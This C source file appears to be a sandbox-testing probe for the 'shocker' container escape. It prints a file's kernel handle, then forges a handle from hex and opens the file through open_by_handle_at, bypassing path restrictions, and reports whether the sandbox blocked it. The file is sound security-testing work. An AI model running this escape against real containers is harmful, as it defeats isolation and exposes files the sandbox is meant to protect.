/*
 * name_to_handle_at + open_by_handle_at: open a file by its handle, with no
 * path at all (the "shocker" container escape). A handle is a stable name of
 * an inode (ext4: inode number + generation), so one learnt earlier, leaked
 * or guessed opens the file later from anywhere on that filesystem.
 *
 *   handle print PATH                   (setup, run outside the sandbox) "HANDLE TYPE HEX"
 *   handle open DIR ALLOWED TYPE HEX    name_to_handle_at(ALLOWED) as a program may, then
 *                                       open_by_handle_at(DIR's fd, the handle TYPE/HEX)
 */
#include "escape.h"

static struct file_handle *alloc_handle(void) {
  struct file_handle *fh = calloc(1, sizeof *fh + MAX_HANDLE_SZ);
  fh->handle_bytes = MAX_HANDLE_SZ;
  return fh;
}

int main(int argc, char **argv) {
  ARGS(3, "print PATH | open DIR ALLOWED TYPE HEX");
  int mount_id;
  if (MODE("print")) {
    struct file_handle *fh = alloc_handle();
    if (name_to_handle_at(AT_FDCWD, argv[2], fh, &mount_id, 0) < 0) error("name_to_handle_at %s", argv[2]);
    printf("HANDLE %d ", fh->handle_type);
    for (unsigned i = 0; i < fh->handle_bytes; i++) printf("%02x", fh->f_handle[i]);
    printf("\n");
    return 0;
  }
  ARGS(6, "open DIR ALLOWED TYPE HEX");
  struct file_handle *own = alloc_handle();
  if (name_to_handle_at(AT_FDCWD, argv[3], own, &mount_id, 0) < 0) blocked(errno, "name_to_handle_at of an allowed file");
  note("name_to_handle_at(%s): type %d, %u bytes, mount %d", argv[3], own->handle_type, own->handle_bytes, mount_id);
  struct file_handle *fh = alloc_handle();
  fh->handle_type = atoi(argv[4]);
  const char *hex = argv[5];
  fh->handle_bytes = (unsigned)strlen(hex) / 2;
  for (unsigned i = 0; i < fh->handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &fh->f_handle[i]);
  int mfd = open(argv[2], O_RDONLY | O_DIRECTORY);
  if (mfd < 0) error("open %s", argv[2]);
  opened(open_by_handle_at(mfd, fh, O_RDONLY), "open_by_handle_at of a forged handle");
}
